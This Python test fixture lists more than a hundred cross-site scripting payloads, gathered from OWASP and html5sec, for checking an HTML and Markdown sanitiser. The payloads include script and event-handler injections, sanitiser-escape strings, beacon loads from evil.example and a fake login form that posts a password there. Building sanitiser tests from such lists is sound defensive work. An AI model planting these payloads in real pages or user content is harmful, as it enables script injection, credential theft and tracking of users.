"""More than a hundred known ways to smuggle a script into a page, by where they hide.

Collected from the OWASP filter evasion cheat sheet, html5sec.org and published sanitiser escapes.
Every one of them, run by a browser, calls ``alert`` (tests listen for the dialog) or fetches from
``evil.example`` (tests listen for requests to other hosts).
"""

from __future__ import annotations

ELEMENTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src="data:text/javascript,alert(1)"></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<SCRIPT>alert(1);//<</SCRIPT>
<script\x20type="text/javascript">alert(1);</script>
<script>alert(String.fromCharCode(88,83,83))</script>
<script type="module">alert(1)</script>
<svg><script>alert&#40;1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg/onload=alert(1)>
<svg onload="alert(1)"></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName="onmouseover" to="alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSI+PC9zdmc+#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<IMG SRC="javascript:alert(1);">
<IMG SRC=`javascript:alert(1)`>
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<IMG ""><SCRIPT>alert(1)</SCRIPT>">
<img src="https://evil.example/beacon.png">
<img/src="x"/onerror=alert(1)>
<img src=x:x onerror=alert(1) x=
<img src="x` `<script>alert(1)</script>"` `>
<image src=x onerror=alert(1)>
<img srcset="https://evil.example/a.png 1x">
<picture><source srcset="https://evil.example/b.png"><img src="x"></picture>
<video><source onerror="alert(1)"></video>
<video poster=https://evil.example/p.png src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=//evil.example></iframe>
<IFRAME SRC="#" onmouseover="alert(1)"></IFRAME>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" type="image/svg+xml">
<applet code="javascript:alert(1)"></applet>
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url(https://evil.example/bg.png)}</style>
<style><style/><img src=x onerror=alert(1)></style>
<div style="background-image: url(https://evil.example/c.png)">x</div>
<div style="width: expression(alert(1));">x</div>
<p style="position:fixed;inset:0;z-index:9999">covers the page</p>
<body onload=alert(1)>
<BODY BACKGROUND="https://evil.example/d.png">
<body onpageshow=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<form action="javascript:alert(1)"><button>x</button></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<form action="https://evil.example/"><input name=password><button>Log in</button></form>
<isindex type=image src=1 onerror=alert(1)>
<table background="https://evil.example/e.png"><tr><td>x</table>
<xss onfocus=alert(1) autofocus tabindex=1>x</xss>
<div onpointerover="alert(1)" onmouseenter="alert(1)">x</div>
<a onmouseover="alert(1)">x</a>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<title><img src=x onerror=alert(1)></title>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" onfocus="alert(1)" autofocus x="
' onfocus='alert(1)' autofocus x='
<a href="x" hx-get="/logout" hx-trigger="load" hx-target="body">x</a>
<div hx-on:load="alert(1)" hx-on="htmx:load: alert(1)">x</div>
<div data-hx-get="https://evil.example/" data-hx-trigger="load">x</div>
<img id="currentScript" name="getElementById"><form id="htmx"></form>
"""

LINKS = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](java&#10;script:alert(1))
[x](&#x01;javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](<javascript:alert(1)>)
[x](javascript:alert(1) "title")
[x](//evil.example "x\" onmouseover=\"alert(1)")
[x]: javascript:alert(1)
![x](https://evil.example/f.png)
![x](javascript:alert(1))
![x"onerror="alert(1)](x)
![x](x "x\" onerror=\"alert(1)")
<javascript:alert(1)>
<https://evil.example/"onmouseover="alert(1)>
[<img src=x onerror=alert(1)>](x)
[x](x"onclick="alert(1))
"""

OTHER = r"""
$\href{javascript:alert(1)}{x}$
$\url{javascript:alert(1)}$
$\htmlData{x=1}{\includegraphics{https://evil.example/g.png}}$
$$</span><script>alert(1)</script>$$
$\text{</span><img src=x onerror=alert(1)>}$
`<script>alert(1)</script>`
#table-1"><script>alert(1)</script>
@reader"><img src=x onerror=alert(1)>
{{ 7 * 7 }}{% raw %}<script>alert(1)</script>
{{constructor.constructor('alert(1)')()}}
${alert(1)}
<%= alert(1) %>
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
"""

PAYLOADS = tuple(line for text in (ELEMENTS, LINKS, OTHER) for line in text.splitlines() if line)
"""One payload a line."""
